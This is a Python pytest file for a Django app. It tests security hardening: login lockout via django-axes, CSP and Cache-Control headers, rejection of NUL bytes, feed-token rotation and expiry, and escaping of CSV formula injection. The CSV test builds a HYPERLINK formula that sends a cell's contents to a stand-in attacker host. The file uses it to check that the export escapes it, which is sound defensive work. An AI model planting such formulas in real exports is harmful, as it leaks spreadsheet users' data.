"""Login throttling (django-axes), CSP, Cache-Control, NUL bytes in URLs, CSV formula injection, feed tokens."""

from __future__ import annotations

import csv
import datetime as dt
import io
import logging

import pytest
from django.urls import reverse
from django.utils import timezone

from mandates.models import FeedToken
from tests import builders

pytestmark = pytest.mark.django_db

LOGIN = "/accounts/login/"


def _login(client, username: str, password: str, ip: str = "203.0.113.7"):
    return client.post(reverse("login"), {"username": username, "password": password}, REMOTE_ADDR=ip)


# --- Login throttling -----------------------------------------------------------------------------


def test_the_sixth_wrong_password_is_refused_even_with_the_right_one(client, bob, caplog):
    caplog.set_level(logging.WARNING, logger="axes")
    for _ in range(4):
        assert _login(client, "bob", "wrong").status_code == 200  # the form again, with an error
    assert _login(client, "bob", "wrong").status_code == 429  # the fifth locks

    response = _login(client, "bob", "bob-password")

    assert response.status_code == 429
    assert b"Too many failed sign-ins" in response.content
    assert "_auth_user_id" not in client.session
    assert any("Locking out" in r.getMessage() and "bob" in r.getMessage() for r in caplog.records)


def test_lockout_by_user_name_holds_from_another_address(client, bob):
    for n in range(5):
        _login(client, "bob", "wrong", ip=f"198.51.100.{n}")
    assert _login(client, "bob", "bob-password", ip="192.0.2.99").status_code == 429


def test_lockout_by_address_holds_for_another_user_name(client, bob, alice):
    for n in range(5):
        _login(client, f"nobody{n}", "wrong", ip="203.0.113.50")
    assert _login(client, "alice", "alice-password", ip="203.0.113.50").status_code == 429
    assert _login(client, "alice", "alice-password", ip="203.0.113.51").status_code == 302


def test_the_right_password_after_a_few_mistakes_still_signs_in(client, bob):
    for _ in range(4):
        _login(client, "bob", "wrong")
    assert _login(client, "bob", "bob-password").status_code == 302


# --- Headers ------------------------------------------------------------------------------------


def test_pages_carry_a_content_security_policy(client, bob):
    client.force_login(bob)
    policy = client.get(reverse("mandates:overview"))["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "script-src 'self'" in policy and "frame-ancestors 'none'" in policy


@pytest.mark.parametrize("name", ["mandates:export_csv", "mandates:export_ics", "mandates:api_mandates"])
def test_authenticated_data_responses_are_private_and_not_stored(client, bob, name):
    builders.mandate(document_due_on=dt.date(2026, 3, 1))
    client.force_login(bob)
    cache_control = client.get(reverse(name))["Cache-Control"]
    assert "private" in cache_control and "no-store" in cache_control


def test_the_feed_is_private_and_not_stored(client, bob):
    token = FeedToken.objects.create(user=bob)
    cache_control = client.get(reverse("mandates:feed_ics", args=[token.token]))["Cache-Control"]
    assert "private" in cache_control and "no-store" in cache_control


# --- NUL bytes ----------------------------------------------------------------------------------


def test_a_nul_byte_in_a_feed_url_is_a_400_not_a_500(client):
    assert client.get("/feeds/%00/mandates.ics").status_code == 400


def test_a_nul_byte_in_an_admin_filter_is_a_400_not_a_500(client, django_user_model):
    admin = django_user_model.objects.create_superuser("root", "root@example.org", "root-password")
    client.force_login(admin)
    builders.mandate()
    assert client.get("/admin/mandates/mandate/", {"status__exact": "\x00"}).status_code == 400
    assert client.get("/mandates/", {"q": "a\x00b"}).status_code == 400


# --- CSV formula injection ----------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_would_run_as_formulas_get_a_leading_quote(client, bob, start):
    evil = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    builders.mandate(subject=evil, submitted_symbol=f"{start}1+1")
    client.force_login(bob)

    response = client.get(reverse("mandates:export_csv"))

    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["subject"] == "'" + evil
    assert row["submitted_symbol"] == f"'{start}1+1"


# --- Feed tokens --------------------------------------------------------------------------------


def test_rotating_the_feed_token_stops_the_old_address(client, bob):
    client.force_login(bob)
    old = client.get(reverse("mandates:feed_info")).context["feed_url"]
    old_path = old.split("testserver", 1)[1]
    assert client.get(old_path).status_code == 200

    response = client.post(reverse("mandates:feed_rotate"), {"query": "status=pending"})

    assert response.status_code == 302 and response["Location"].endswith("?status=pending")
    new = client.get(reverse("mandates:feed_info")).context["feed_url"]
    assert new != old
    assert client.get(old_path).status_code == 404
    assert client.get(new.split("testserver", 1)[1]).status_code == 200


def test_a_feed_token_older_than_the_maximum_age_stops_working(client, bob, settings):
    settings.FEED_TOKEN_MAX_AGE_DAYS = 30
    token = FeedToken.objects.create(user=bob)
    url = reverse("mandates:feed_ics", args=[token.token])
    assert client.get(url).status_code == 200

    FeedToken.objects.filter(pk=token.pk).update(created_at=timezone.now() - dt.timedelta(days=31))

    assert client.get(url).status_code == 404
    client.force_login(bob)
    page = client.get(reverse("mandates:feed_info"))
    assert page.context["expired"] and b"expired" in page.content
